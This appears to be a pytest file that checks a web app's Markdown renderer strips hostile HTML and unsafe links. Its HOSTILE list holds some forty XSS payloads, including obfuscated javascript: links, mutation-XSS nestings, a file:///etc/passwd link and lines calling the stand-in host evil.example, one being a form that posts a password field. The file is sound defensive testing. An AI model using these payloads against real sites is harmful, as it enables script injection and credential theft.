"""Descriptions in Markdown are shown as written, and can do nothing to their reader."""

from html.parser import HTMLParser

import pytest

from apps.core.markdown import render_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    "<style>@import 'http://evil.example/x.css'</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<form action=http://evil.example><input name=password></form>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<div style='background:url(http://evil.example/x)'>x</div>",
    "<details open ontoggle=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    '[x](https://example.org "onmouseover=alert(1)")',
    '[x](https://example.org"onmouseover="alert(1))',
    "![x](http://evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<https://example.org/\"onclick='alert(1)'>",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "`</code><script>alert(1)</script>`",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\x00<scr\x00ipt>alert(1)</script>",
]  # fmt: skip

HARMLESS_TAGS = {
    *("a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre"),
    *("s", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"),
}


class Tags(HTMLParser):
    """Collects the tags of a document with their attributes, as a browser would see them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_leaves_only_harmless_tags_and_links(text):
    for tag, attributes in Tags(render_markdown(text)).found:
        assert tag in HARMLESS_TAGS
        assert set(attributes) <= ({"href", "title", "rel"} if tag == "a" else set())
        scheme = (attributes.get("href") or "https:").partition(":")[0]
        assert scheme in {"http", "https", "mailto"}


def test_html_is_shown_as_the_text_that_was_written():
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in render_markdown("<script>alert(1)</script>")


def test_nothing_is_loaded_when_a_description_is_read():
    html = render_markdown("![a picture](https://elsewhere.example/x.png) ![](/static/x.png)")
    assert [tag for tag, _ in Tags(html).found] == ["p"]


def test_links_tell_the_other_site_nothing_and_lend_it_no_weight():
    [(_, _), (tag, attributes)] = Tags(render_markdown("[docs](https://example.org/a?b=1&c=2)")).found
    assert (tag, attributes["href"]) == ("a", "https://example.org/a?b=1&c=2")
    assert set((attributes["rel"] or "").split()) == {"noopener", "noreferrer", "nofollow"}


def test_usual_markdown_is_understood():
    html = render_markdown(
        "# Title\n\n*soft* **strong** ~~gone~~ `code`\n\n1. one\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    )
    for part in (
        "<h1>Title</h1>",
        "<em>soft</em>",
        "<strong>strong</strong>",
        "<code>code</code>",
        "<td>2</td>",
        "<li>",
    ):
        assert part in html


@pytest.mark.parametrize("text", ["[" * 5000, ">" * 5000, "*a_ " * 3000, "`" * 5000, "- " * 3000, "<a " * 5000])
def test_text_made_to_be_hard_is_read_too(text):
    assert render_markdown(text)
